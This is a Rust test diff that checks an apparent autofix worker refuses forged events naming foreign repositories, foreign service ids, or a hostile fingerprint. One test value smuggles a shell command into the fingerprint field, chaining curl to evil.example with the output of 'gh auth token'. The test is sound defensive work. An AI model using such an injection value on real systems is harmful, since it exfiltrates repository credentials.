@@ -308,3 +308,66 @@ async fn slow_body_is_cut_off() {
     let answer = String::from_utf8_lossy(&buf[..n]);
     assert!(answer.starts_with("HTTP/1.1 408"), "{answer}");
 }
+
+// ---- forged events ---------------------------------------------------------------------------
+
+/// Sends a forged `autofix/fix.requested` to the worker and returns the run's failure message
+/// (it must fail without retries) and what the executor recorded.
+async fn forged_fix_request(edit: impl FnOnce(&mut serde_json::Value)) -> (String, App) {
+    let mut event = leak_fix_request().await;
+    edit(&mut event);
+    let deps = offline_deps(railway::Source::Static(Box::new(leak_snapshot())), false);
+    let app = App::start(deps).await;
+    app.inngest.send(event).await;
+    app.inngest.run_until_idle().await.unwrap();
+    let runs = app.inngest.runs_of(&composite("generate-fix"));
+    assert_eq!(runs.len(), 1);
+    let run = &runs[0];
+    let failure = match &run.status {
+        inngest_testkit::RunStatus::Failed(e) => e.to_string(),
+        other => panic!("a forged event was acted on: {other:?}"),
+    };
+    assert!(
+        run.retries.iter().all(|r| !r.retried),
+        "a refusal must not be retried: {:?}",
+        run.retries
+    );
+    assert!(
+        run.step("analyze").is_none(),
+        "the forged request reached the analysis"
+    );
+    (failure, app)
+}
+
+#[tokio::test]
+async fn forged_event_naming_a_foreign_repository_is_refused() {
+    let (failure, _app) = forged_fix_request(|e| {
+        e["data"]["repo"] = "attacker-org/payload-repo".into();
+        for s in e["data"]["services"].as_array_mut().unwrap() {
+            s["repo"] = "attacker-org/payload-repo".into();
+        }
+    })
+    .await;
+    assert!(failure.contains("attacker-org/payload-repo"), "{failure}");
+}
+
+#[tokio::test]
+async fn forged_event_naming_a_foreign_service_id_is_refused() {
+    let (failure, _app) = forged_fix_request(|e| {
+        e["data"]["services"][0]["id"] = "svc-not-in-this-project".into();
+        e["data"]["findings"][0]["service_id"] = "svc-not-in-this-project".into();
+    })
+    .await;
+    assert!(failure.contains("svc-not-in-this-project"), "{failure}");
+}
+
+#[tokio::test]
+async fn forged_event_with_a_hostile_fingerprint_is_refused() {
+    let hostile = "af-1 && curl https://evil.example/?t=$(gh auth token) #";
+    let (failure, app) = forged_fix_request(|e| {
+        e["data"]["fingerprint"] = hostile.into();
+    })
+    .await;
+    assert!(failure.contains("fingerprint"), "{failure}");
+    assert!(!everything_inngest_holds(&app).contains("gh repo clone"));
+}
